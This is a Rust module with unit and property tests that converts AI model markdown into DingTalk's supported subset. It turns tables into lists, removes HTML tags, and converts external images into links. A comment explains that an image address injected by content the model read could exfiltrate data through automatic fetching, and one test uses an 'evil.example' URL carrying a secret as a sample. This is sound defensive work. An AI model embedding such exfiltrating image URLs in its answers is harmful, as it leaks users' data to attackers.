//! Rewriting what DingTalk's markdown does not have.
//!
//! The text is parsed, but not written anew: only the places that need it are edited, so that
//! everything else, code above all, stays as the model wrote it.

use std::ops::Range;

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};

/// Rewrites a model's markdown in DingTalk's subset ("markdown" of robot messages in the open
/// platform's documentation).
///
/// A table becomes a list with a line for each row; a line end inside a paragraph becomes one that
/// shows; `~~strike~~`, HTML tags and comments lose their marks and keep their text; the boxes of a
/// task list become ☐ and ☑; a picture from elsewhere becomes a link to it; `<https://…>` loses its brackets; underlined headings get their `#`.
/// What is in code stays as it is: newer clients show fences, older ones the plain text.
pub fn fit(text: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut fitter = Fitter { source: text, edits: Vec::new(), table: None, underlined: false };
    for (event, range) in Parser::new_ext(text, options).into_offset_iter() {
        fitter.event(&event, range);
    }
    apply(text, 0..text.len(), &fitter.edits)
}

/// A piece of the source and what takes its place; in the order of the source.
type Edit = (Range<usize>, String);

struct Fitter<'a> {
    source: &'a str,
    edits: Vec<Edit>,
    table: Option<Table>,
    /// Inside a heading that is underlined with `===` or `---`.
    underlined: bool,
}

/// The table being read.
#[derive(Default)]
struct Table {
    head: Vec<String>,
    rows: Vec<Vec<String>>,
    row: Vec<String>,
    /// How many edits there were when the current cell began.
    cell_edits: usize,
}

impl Fitter<'_> {
    fn event(&mut self, event: &Event<'_>, range: Range<usize>) {
        let slice = &self.source[range.clone()];
        match event {
            Event::Start(Tag::Strikethrough) if slice.starts_with("~~") => {
                self.replace(range.start..range.start + 2, "");
            }
            Event::End(TagEnd::Strikethrough) if slice.starts_with("~~") => {
                self.replace(range.end - 2..range.end, "");
            }
            // A client fetches a picture without asking: an address in an answer, put there by
            // whatever the model read, would carry away what the answer knows.
            Event::Start(Tag::Image { dest_url, .. }) if !dest_url.starts_with('@') => {
                self.replace(range.start..range.start + '!'.len_utf8(), "");
            }
            Event::TaskListMarker(done) => self.replace(range, if *done { "☑" } else { "☐" }),
            Event::SoftBreak | Event::HardBreak => self.line_break(range),
            Event::InlineHtml(_) => {
                let text = without_tags(slice);
                self.replace(range, &text);
            }
            Event::Start(Tag::HtmlBlock) => {
                let text = without_tags(slice);
                self.replace(range, &text);
            }
            Event::Start(Tag::Link { link_type: LinkType::Autolink | LinkType::Email, .. }) => {
                let address = slice.trim_start_matches('<').trim_end_matches('>').to_owned();
                self.replace(range, &address);
            }
            Event::Start(Tag::Heading { level, .. }) if !slice.trim_start().starts_with('#') => {
                self.underlined = true;
                let marks = format!("{} ", "#".repeat(*level as usize));
                self.replace(range.start..range.start, &marks);
            }
            Event::End(TagEnd::Heading(_)) if self.underlined => {
                self.underlined = false;
                let heading = slice.trim_end();
                if let Some(underline) = heading.rfind('\n') {
                    let whole = range.start + underline..range.start + heading.len();
                    self.replace(whole, "");
                }
            }
            _ => self.table_event(event, range),
        }
    }

    fn table_event(&mut self, event: &Event<'_>, range: Range<usize>) {
        if let Event::Start(Tag::Table(_)) = event {
            self.table = Some(Table::default());
            return;
        }
        let Some(table) = &mut self.table else { return };
        match event {
            Event::Start(Tag::TableCell) => table.cell_edits = self.edits.len(),
            Event::End(TagEnd::TableCell) => {
                let edits = self.edits.split_off(table.cell_edits);
                let cell = apply(self.source, range, &edits);
                let words = cell.replace("\\|", "|");
                table.row.push(words.split_whitespace().collect::<Vec<_>>().join(" "));
            }
            Event::End(TagEnd::TableHead) => table.head = std::mem::take(&mut table.row),
            Event::End(TagEnd::TableRow) => table.rows.push(std::mem::take(&mut table.row)),
            Event::End(TagEnd::Table) => {
                let line_start = self.source[..range.start].rfind('\n').map_or(0, |at| at + 1);
                let before = &self.source[line_start..range.start];
                let lines = table.lines(before);
                let end = range.start + self.source[range.clone()].trim_end().len();
                self.table = None;
                self.replace(range.start..end, &lines);
            }
            _ => {}
        }
    }

    /// A line end that DingTalk shows: `"  \n  "` as documented.
    fn line_break(&mut self, range: Range<usize>) {
        if self.underlined {
            return self.replace(range, " ");
        }
        let start = self.source[..range.start].trim_end_matches(' ').len();
        let end =
            self.source[range.clone()].find('\n').map_or(range.end, |at| range.start + at + 1);
        // Indentation and quote marks of the next line already stand where they must.
        let indented = self.source[end..].starts_with([' ', '\t', '>']);
        self.replace(start..end, if indented { "  \n" } else { "  \n  " });
    }

    fn replace(&mut self, range: Range<usize>, by: &str) {
        self.edits.push((range, by.to_owned()));
    }
}

impl Table {
    /// One list item a row, each value behind its column's name; `before` is what stands before
    /// the table on its first line: the marks of the quote or list it is in.
    fn lines(&self, before: &str) -> String {
        let prefix: String = before.chars().map(|c| if c == '>' { '>' } else { ' ' }).collect();
        let row = |cells: &Vec<String>| {
            let named = cells.iter().enumerate().filter(|(_, cell)| !cell.is_empty());
            let values = named.map(|(column, cell)| match self.head.get(column) {
                Some(name) if !name.is_empty() => format!("{name}: {cell}"),
                _ => cell.clone(),
            });
            format!("- {}", values.collect::<Vec<_>>().join("; "))
        };
        if self.rows.is_empty() {
            return format!("- {}", self.head.join("; "));
        }
        self.rows.iter().map(row).collect::<Vec<_>>().join(&format!("\n{prefix}"))
    }
}

/// `source[range]` with `edits`, which are in order and inside it.
fn apply(source: &str, range: Range<usize>, edits: &[Edit]) -> String {
    let mut text = String::with_capacity(range.len());
    let mut at = range.start;
    for (place, by) in edits {
        if place.start < at || place.end > range.end {
            continue;
        }
        text.push_str(&source[at..place.start]);
        text.push_str(by);
        at = place.end;
    }
    text.push_str(&source[at..range.end]);
    text
}

/// Elements whose tags are markup. Others, such as the `<String>` of an unquoted `Vec<String>`, are
/// words of the text.
const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "article",
    "b",
    "big",
    "blockquote",
    "body",
    "br",
    "center",
    "cite",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "head",
    "header",
    "hr",
    "html",
    "i",
    "iframe",
    "img",
    "ins",
    "kbd",
    "li",
    "link",
    "main",
    "mark",
    "meta",
    "nav",
    "ol",
    "p",
    "picture",
    "pre",
    "q",
    "s",
    "samp",
    "script",
    "section",
    "small",
    "source",
    "span",
    "strike",
    "strong",
    "style",
    "sub",
    "summary",
    "sup",
    "svg",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "title",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
];

/// `html` without the tags of [`ELEMENTS`] and without comments; `<br>` becomes a line end. The
/// `<` of anything else is escaped, so that no client takes it for a tag.
fn without_tags(html: &str) -> String {
    let mut text = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        text.push_str(&rest[..at]);
        rest = &rest[at..];
        if let Some(comment) = rest.strip_prefix("<!--") {
            rest = comment.find("-->").map_or("", |end| &comment[end + 3..]);
            continue;
        }
        let inside = rest[1..].trim_start_matches('/');
        let name_end = inside.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(inside.len());
        let name = inside[..name_end].to_ascii_lowercase();
        match rest.find('>') {
            Some(end) if ELEMENTS.contains(&name.as_str()) => {
                if name == "br" {
                    text.push_str("  \n");
                }
                rest = &rest[end + 1..];
            }
            _ => {
                text.push_str("&lt;");
                rest = &rest[1..];
            }
        }
    }
    text.push_str(rest);
    text
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_dingtalk_knows_stays() {
        for text in [
            "# 标题\n\n**粗** *斜* [链接](https://example.net) ![](@media)\n\n- 一\n- 二\n\n1. a\n2. b\n\n> 引用",
            "价格 5~8 元~ 好的~",
            "`<b>~~x~~</b>`",
            "1 < 2 && 3 > 2",
            "",
        ] {
            assert_eq!(fit(text), text);
        }
    }

    #[test]
    fn a_picture_is_not_fetched_unasked() {
        let leak = "看图 ![猫](https://evil.example/?q=secret) 完";
        assert_eq!(fit(leak), "看图 [猫](https://evil.example/?q=secret) 完");
    }

    #[test]
    fn code_stays_as_it_is() {
        let code = "```html\n<b>a</b>\n| a | b |\n|---|---|\n~~x~~\n```\n\n- item\n  ```\n  a\n  b\n  ```\n";
        assert_eq!(fit(code), code);
    }

    #[test]
    fn a_table_becomes_a_list() {
        let table = "说明\n\n| 姓名 | 年龄 |\n|---|:-:|\n| **小明** | 3 |\n| a\\|b | |\n\n完";
        assert_eq!(fit(table), "说明\n\n- 姓名: **小明**; 年龄: 3\n- 姓名: a|b\n\n完");
        assert_eq!(fit("| a | b |\n|---|---|\n"), "- a; b\n");
        let inner = "> | a |\n> |---|\n> | ~~1~~<br>2 |\n> | 3 |";
        assert_eq!(fit(inner), "> - a: 1 2\n> - a: 3");
    }

    #[test]
    fn line_ends_in_a_paragraph_show() {
        assert_eq!(fit("一\n二\n\n三"), "一  \n  二\n\n三");
        assert_eq!(fit("a  \nb\\\nc"), "a  \n  b  \n  c");
        assert_eq!(fit("- a\n  b\n- c"), "- a  \n  b\n- c");
        assert_eq!(fit("> a\n> b"), "> a  \n> b");
        assert_eq!(fit("a\r\nb"), "a  \n  b");
    }

    #[test]
    fn marks_that_do_not_show_go() {
        assert_eq!(fit("~~旧~~新"), "旧新");
        assert_eq!(fit("- [x] 完\n- [ ] 未"), "- ☑ 完\n- ☐ 未");
        assert_eq!(fit("见 <https://example.net/a> 吧"), "见 https://example.net/a 吧");
        assert_eq!(fit("大标题\n===\n\n小标题\n---\n文"), "# 大标题\n\n## 小标题\n文");
    }

    #[test]
    fn html_loses_its_tags_and_keeps_its_text() {
        assert_eq!(fit("a <b>b</b><!-- c --> d<br/>e"), "a b d  \ne");
        assert_eq!(fit("<div class=\"x\">\n你好\n</div>\n"), "\n你好\n\n");
        assert_eq!(fit("<!-- a\nb -->\n\nc"), "\n\nc");
        assert_eq!(fit("用 Vec<String> 吧"), "用 Vec&lt;String> 吧");
    }

    const PIECES: &str = "(?s)(\\| a | b \\||\\|---\\||\n|> |- |1\\. |\\[ \\]|~~|~|<br>|<b>|</p>|<!--|-->|```|`|#|===|---|\\\\|  |\t|<https://a>|\\[x\\]\\(y\\)|\\*\\*|词|\r\n|a){0,40}";

    proptest! {
        #[test]
        fn no_text_makes_it_panic(text in PIECES, any in "(?s).{0,200}") {
            fit(&text);
            fit(&any);
        }

        #[test]
        fn words_are_kept(words in proptest::collection::vec("[a-z词语]{1,5}", 1..20)) {
            let table = format!("|{0}|\n|{1}\n|{0}|", words.join("|"), "---|".repeat(words.len()));
            let fitted = fit(&format!("{}\n\n{table}", words.join("\n")));
            for word in &words {
                prop_assert!(fitted.contains(word.as_str()));
            }
        }

        #[test]
        fn fenced_code_is_untouched(code in "[a-z<>|~ \n-]{0,80}", before in "[a-z词 \n]{0,30}") {
            let fenced = format!("```\n{code}\n```");
            let fitted = fit(&format!("{before}\n\n{fenced}\n"));
            prop_assert!(fitted.contains(&fenced), "{fitted}");
        }
    }
}
